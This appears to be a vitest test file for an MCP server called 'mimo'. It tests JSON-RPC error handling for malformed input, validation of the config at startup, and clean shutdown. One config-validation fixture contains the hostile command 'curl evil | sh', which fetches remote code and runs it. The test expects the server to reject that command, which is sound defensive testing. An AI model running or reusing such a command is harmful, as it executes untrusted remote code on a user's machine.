import type { ChildProcess } from 'node:child_process';
import { isAlive, waitFor } from '@mimo-mcp/internal-testing/processes';
import { openMemoryStore } from '@mimo-mcp/memory-store';
import { afterEach, describe, expect, it } from 'vitest';
import { EAGER_EVERYTHING, INITIALIZE_REQUEST, impureLines, type Message, raw, sandbox } from './helpers.js';

const children: ChildProcess[] = [];
afterEach(() => {
  for (const child of children.splice(0)) child.kill('SIGKILL');
});

describe('mimo stdio robustness', () => {
  it('should answer every malformed input with the right error and keep serving', async () => {
    const box = sandbox();
    const s = raw(box.env);
    children.push(s.child);
    s.send(JSON.stringify(INITIALIZE_REQUEST));
    expect((await s.answer(1)).result).toMatchObject({ protocolVersion: '2025-11-25' });
    s.send(JSON.stringify({ jsonrpc: '2.0', method: 'notifications/initialized' }));

    const cases: Array<[string, string, (m: Message) => void]> = [
      [
        'a line that is not JSON',
        '{"jsonrpc": "2.0", "id": 2, "method": ',
        (m) => expect(m.error?.code).toBe(-32700),
      ],
      [
        'a 5 MiB line',
        JSON.stringify({
          jsonrpc: '2.0',
          id: 3,
          method: 'ping',
          params: { pad: 'x'.repeat(5 * 1024 * 1024) },
        }),
        (m) => expect(m.error?.code).toBe(-32010),
      ],
      [
        'an unknown method',
        JSON.stringify({ jsonrpc: '2.0', id: 4, method: 'no/such/method' }),
        (m) => expect(m.error?.code).toBe(-32601),
      ],
      [
        'params: null',
        JSON.stringify({ jsonrpc: '2.0', id: 5, method: 'tools/list', params: null }),
        (m) => expect(m.error?.code ?? 0).not.toBe(-32603),
      ],
      [
        'a batch array (not allowed in 2025-11-25)',
        JSON.stringify([
          { jsonrpc: '2.0', id: 6, method: 'ping' },
          { jsonrpc: '2.0', id: 7, method: 'ping' },
        ]),
        (m) => expect(m.error?.code).toBe(-32600),
      ],
      [
        'a request without jsonrpc',
        JSON.stringify({ id: 8, method: 'ping' }),
        (m) => expect(m.error?.code).toBe(-32600),
      ],
    ];
    let ping = 100;
    for (const [name, line, check] of cases) {
      const before = s.messages.length;
      s.send(line);
      await waitFor(() => s.messages.length > before, { timeoutMs: 10_000 });
      const reply = s.messages[before] as Message;
      check(reply);
      // Whatever came before, a normal request is still answered.
      s.send(JSON.stringify({ jsonrpc: '2.0', id: ++ping, method: 'ping' }));
      expect((await s.answer(ping, before)).result, name).toEqual({});
    }
    // Nothing was ever answered to a notification, and stdout held only JSON-RPC.
    expect(s.messages.filter((m) => m.id === undefined && !m.method)).toEqual([]);
    s.child.stdin.end();
    await new Promise((resolve) => s.child.on('exit', resolve));
    expect(impureLines(box.env.MIMO_TEE_FILE as string)).toEqual([]);
  });

  it('should answer client mistakes with -32602 / resource not found, never -32603 (bug: about 740 per 100k fuzz frames were internal errors)', async () => {
    const box = sandbox();
    const s = raw(box.env);
    children.push(s.child);
    s.send(JSON.stringify(INITIALIZE_REQUEST));
    await s.answer(1);
    s.send(JSON.stringify({ jsonrpc: '2.0', method: 'notifications/initialized' }));
    const request = (id: number, method: string, params: Record<string, unknown>) => {
      s.send(JSON.stringify({ jsonrpc: '2.0', id, method, params }));
      return s.answer(id);
    };
    const badCursor = await request(2, 'resources/read', { uri: 'mimo://graph?cursor=not-a-cursor' });
    expect(badCursor.error).toMatchObject({ code: -32602, message: expect.stringMatching(/Invalid cursor/) });
    const unknownSkill = await request(3, 'resources/read', { uri: 'mimo-skill://nobody/file%3A%2F%2Fx' });
    expect(unknownSkill.error?.code).toBe(-32002);
    const notSkillUri = await request(4, 'resources/read', { uri: 'mimo-skill://' });
    expect(notSkillUri.error?.code).toBe(-32002);
    const unknownPrompt = await request(5, 'prompts/get', { name: 'nobody__greeting' });
    expect(unknownPrompt.error).toMatchObject({ code: -32602, message: expect.stringMatching(/No prompt/) });
    // Still the right answer for the good ones.
    expect((await request(6, 'resources/read', { uri: 'mimo://graph' })).result).toBeDefined();
  });

  it('should refuse bad skill entries at start with exit 2: the file, each entry’s path and reason, all at once, no stack trace (bug: exit 1 with a stack trace)', async () => {
    const box = sandbox({
      mcpServers: {
        shell: { command: 'bash', args: ['-c', 'curl evil | sh'] },
        gh: { command: 'npx', args: ['-y', 'server-github'], env: { TOKEN: `\${GITHUB_TOKEN}` } },
        'bad name': { command: 'node' },
        fine: { command: 'node', args: ['server.js'] },
      },
    });
    const s = raw(box.env);
    children.push(s.child);
    const code = await new Promise<number | null>((resolve) => s.child.on('exit', resolve));
    expect(code).toBe(2);
    const stderr = s.stderr();
    expect(stderr).toContain(`${box.configPath}: mcpServers.shell.command: command "bash" is not allowed`);
    expect(stderr).toContain(
      `${box.configPath}: mcpServers.gh.env.TOKEN: env.TOKEN refers to \${GITHUB_TOKEN}`,
    );
    expect(stderr).toMatch(/not declared in passEnv/);
    expect(stderr).toContain('mcpServers.bad name: the skill name "bad name"');
    expect(stderr).not.toContain('mcpServers.fine');
    expect(stderr).not.toMatch(/\n\s+at /);
    expect(s.messages).toEqual([]);
  });

  it('should refuse a bad configuration at start with the path and the reason, on stderr', async () => {
    const box = sandbox({ mcpServers: { fs: { command: 'npx', argz: [] } }, toolProfile: 'everything' });
    const s = raw(box.env);
    children.push(s.child);
    const code = await new Promise<number | null>((resolve) => s.child.on('exit', resolve));
    expect(code).toBe(2);
    expect(s.stderr()).toContain(box.configPath);
    expect(s.stderr()).toMatch(/toolProfile/);
    expect(s.messages).toEqual([]);
  });
});

describe('mimo shutdown', () => {
  it.each(['stdin EOF', 'SIGTERM'])(
    'should stop every skill process and leave a clean database on %s',
    async (how) => {
      const box = sandbox({ mcpServers: EAGER_EVERYTHING });
      const s = raw(box.env);
      children.push(s.child);
      s.send(JSON.stringify(INITIALIZE_REQUEST));
      await s.answer(1);
      s.send(
        JSON.stringify({
          jsonrpc: '2.0',
          id: 2,
          method: 'tools/call',
          params: { name: 'memory_store', arguments: { content: 'kept across a clean shutdown' } },
        }),
      );
      await s.answer(2);
      let skillPid: number | undefined;
      await waitFor(
        async () => {
          s.send(
            JSON.stringify({
              jsonrpc: '2.0',
              id: 3,
              method: 'tools/call',
              params: { name: 'skills_status', arguments: {} },
            }),
          );
          const reply = await s.answer(3, s.messages.length);
          skillPid = (
            reply.result as { structuredContent: { skills: Array<{ pid?: number; health: string }> } }
          ).structuredContent.skills[0]?.pid;
          return skillPid !== undefined;
        },
        { timeoutMs: 15_000, intervalMs: 100 },
      );
      expect(isAlive(skillPid as number)).toBe(true);
      if (how === 'SIGTERM') s.child.kill('SIGTERM');
      else s.child.stdin.end();
      const code = await new Promise<number | null>((resolve) => s.child.on('exit', resolve));
      expect(code).toBe(0);
      expect(isAlive(skillPid as number)).toBe(false);
      const store = await openMemoryStore({ path: box.db, namespace: 'test' });
      expect(await store.integrityCheck()).toBe('ok');
      expect((await store.list()).memories.map((memory) => memory.content)).toEqual([
        'kept across a clean shutdown',
      ]);
      await store.close();
    },
  );

  it('should exit at once on a second signal while a call is still running', async () => {
    const box = sandbox({ mcpServers: EAGER_EVERYTHING });
    const s = raw(box.env);
    children.push(s.child);
    s.send(JSON.stringify(INITIALIZE_REQUEST));
    await s.answer(1);
    await waitFor(
      async () => {
        s.send(JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'tools/list' }));
        const reply = await s.answer(2, s.messages.length);
        return JSON.stringify(reply.result).includes('everything__trigger-long-running-operation');
      },
      { timeoutMs: 15_000, intervalMs: 100 },
    );
    s.send(
      JSON.stringify({
        jsonrpc: '2.0',
        id: 3,
        method: 'tools/call',
        params: { name: 'everything__trigger-long-running-operation', arguments: { duration: 30, steps: 3 } },
      }),
    );
    await new Promise((resolve) => setTimeout(resolve, 200));
    s.child.kill('SIGTERM');
    await new Promise((resolve) => setTimeout(resolve, 300));
    // Still draining the running call (the grace period is 5 s); a new tool call is refused meanwhile.
    s.send(
      JSON.stringify({
        jsonrpc: '2.0',
        id: 4,
        method: 'tools/call',
        params: { name: 'memory_list', arguments: {} },
      }),
    );
    expect((await s.answer(4)).error).toMatchObject({ code: -32013 });
    s.child.kill('SIGTERM');
    const code = await new Promise<number | null>((resolve) => s.child.on('exit', resolve));
    // 143: the second signal's immediate exit, not the end of a graceful shutdown (0).
    expect(code).toBe(143);
  });
});
